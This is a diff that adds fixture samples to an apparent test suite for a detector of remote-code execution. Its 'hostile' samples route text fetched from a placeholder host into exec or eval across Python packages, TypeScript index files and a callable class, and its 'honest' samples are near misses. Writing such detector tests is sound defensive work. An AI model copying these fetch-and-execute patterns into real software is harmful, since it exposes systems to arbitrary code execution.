@@ -22,6 +22,33 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("order.py", 6),
         ),
+        "through the names of a package": Sample(
+            {
+                "main.py": "from a import take\nexec(take())\n",
+                "a/__init__.py": "from .net import ask as take\n",
+                "a/net.py": "import requests\ndef ask():\n    return requests.get('https://a.invalid').text\n",
+            },
+            "block",
+            ("a/net.py", 3),
+        ),
+        "through an index of modules": Sample(
+            {
+                "main.ts": "import { get, run } from './lib';\nrun(await get());\n",
+                "lib/index.ts": "export { take as get } from './net';\nexport * from './core';\n",
+                "lib/net.ts": f"export const take = async () => {_ASK};\n",
+                "lib/core.ts": "export const run = (text: string) => eval(text);\n",
+            },
+            "block",
+            ("lib/core.ts", 1),
+        ),
+        "an object of another file is called": Sample(
+            {
+                "main.py": "import requests\nfrom run import Runner\nRunner()(requests.get('https://a.invalid').text)\n",
+                "run.py": "class Runner:\n    def __call__(self, text): exec(text)\n",
+            },
+            "block",
+            ("run.py", 2),
+        ),
         "a loader of the import system": py(
             "import importlib.abc, requests\nclass A(importlib.abc.SourceLoader):\n    def get_data(self, path):\n"
             "        return requests.get('https://a.invalid').content\n",
@@ -192,6 +219,18 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": "import requests\nfrom order import Order\nOrder(1, requests.get('https://a.invalid').text).show()\n",
             "order.py": "from dataclasses import dataclass\n@dataclass\nclass Order:\n    n: int\n    text: str\n"
             "    def show(self):\n        exec('x = 1')\n        return self.text\n",
+        },
+        "through an index, and shown": {
+            "main.ts": "import { get, run } from './lib';\nrun('1');\nconsole.log(await get());\n",
+            "lib/index.ts": "export { take as get } from './net';\nexport * from './core';\n",
+            "lib/net.ts": f"export const take = async () => {_ASK};\n",
+            "lib/core.ts": "export const run = (text: string) => eval(text);\n",
+        },
+        "another name of the same package": {
+            "main.py": "from a import give, take\nexec(give())\nprint(take())\n",
+            "a/__init__.py": "from .net import take\nfrom .own import give\n",
+            "a/net.py": "import requests\ndef take():\n    return requests.get('https://a.invalid').text\n",
+            "a/own.py": "def give():\n    return 'x = 1'\n",
         },
         "a loader of files": {
             "app.py": "import importlib.abc, requests\nrequests.get('https://a.invalid')\n"
